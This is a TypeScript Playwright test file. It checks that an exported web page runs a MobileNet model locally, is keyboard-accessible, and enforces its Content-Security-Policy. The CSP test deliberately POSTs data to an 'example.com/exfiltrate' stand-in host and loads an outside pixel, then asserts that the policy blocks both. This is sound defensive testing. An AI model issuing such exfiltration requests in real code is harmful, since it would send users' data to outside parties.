import { mkdir, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { exportWebFolder, serveFolder, type ServedFolder } from '../src/node.js';
import { launchChromium } from './chromium.js';
import { fixture, skipReason } from './env.js';

/** Screenshots a person looks at: apps/web/test-results/. */
const SHOTS = join(dirname(fileURLToPath(import.meta.url)), '..', 'test-results');

describe.skipIf(skipReason !== null)(`the page in headless Chromium${skipReason ? ` (skipped: ${skipReason})` : ''}`, () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let server: ServedFolder | null = null;
  let origin: string;
  const requests: string[] = [];
  /** url → Chromium's error for requests that did not complete. */
  const failed = new Map<string, string>();
  /** Requests the CSP test makes on purpose; each must be stopped by the policy, not by the network. */
  const PROBES = ['http://example.com/exfiltrate', 'http://example.com/pixel.png'];
  const consoleErrors: string[] = [];

  beforeAll(async () => {
    const site = join(await mkdtemp(join(tmpdir(), 'aeflow-web-site-')), 'site');
    await exportWebFolder({ run: fixture().run, out: site });
    server = await serveFolder(site, { port: 0 });
    origin = new URL(server.url).origin;
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1200, height: 1000 } });
    // every request of every page and worker of the context
    context.on('request', (r) => requests.push(r.url()));
    context.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText ?? '?'));
    page = await context.newPage();
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(m.text());
    });
    await mkdir(SHOTS, { recursive: true });
    await page.goto(server.url);
    await page.waitForFunction(() => document.body.dataset.state === 'ready' || document.body.dataset.state === 'error', undefined, { timeout: 120_000 });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('loads the exported run, says which backend it started and why not the others', async () => {
    expect(await page.textContent('#run-status')).toMatch(/^Loaded/);
    const backend = await page.getAttribute('body', 'data-backend');
    expect(['webgpu', 'webgl', 'wasm']).toContain(backend);
    expect(await page.textContent('#backend')).not.toBe('starting…');
    expect(await page.textContent('#run-info')).toContain('MobileNet V1');
    await page.screenshot({ path: join(SHOTS, 'empty.png'), fullPage: true });
  });

  it('is reachable from the keyboard: Tab reaches the skip link, the file picker has a visible label', async () => {
    await page.focus('body');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.className)).toBe('skip');
    expect(await page.$eval('label[for="files"]', (l) => l.textContent)).toMatch(/Choose images/);
    expect(await page.$eval('label[for="progress"]', (l) => l.textContent)).toMatch(/Progress/);
    expect(await page.getAttribute('html', 'lang')).toBe('en');
  });

  it('the Content-Security-Policy refuses a request to another origin before it leaves the page', async () => {
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("form-action 'none'");
    const before = requests.length;
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('http://example.com/exfiltrate', { method: 'POST', body: 'pixels' });
        return 'sent';
      } catch (err) {
        return `blocked: ${(err as Error).message}`;
      }
    });
    expect(outcome).toMatch(/^blocked/);
    expect(requests.slice(before).filter((u) => u.includes('example.com'))).toEqual([]);
    const image = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const img = new Image();
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('blocked');
          img.src = 'http://example.com/pixel.png';
        }),
    );
    expect(image).toBe('blocked');
    // stopped by the policy inside the browser (Playwright reports "csp"; a closed network would be net::ERR_…)
    expect(failed.get('http://example.com/pixel.png')).toBe('csp');
  });

  it('made no request outside its origin, and every request succeeded', () => {
    const outside = requests.filter((u) => !u.startsWith('blob:') && !u.startsWith('data:') && new URL(u).origin !== origin);
    // only the CSP test's own probes, each blocked by the policy
    expect(outside.filter((u) => !PROBES.includes(u))).toEqual([]);
    for (const u of outside) expect(failed.get(u), u).toBe('csp');
    expect([...failed.keys()].filter((u) => !PROBES.includes(u))).toEqual([]);
    expect(requests.some((u) => u.endsWith('/run/model.safetensors'))).toBe(true);
    expect(requests.some((u) => u.includes('/run/encoder/'))).toBe(true);
    expect(consoleErrors.filter((e) => !/Content Security Policy|example\.com|Failed to fetch|ERR_BLOCKED/.test(e))).toEqual([]);
  });
});
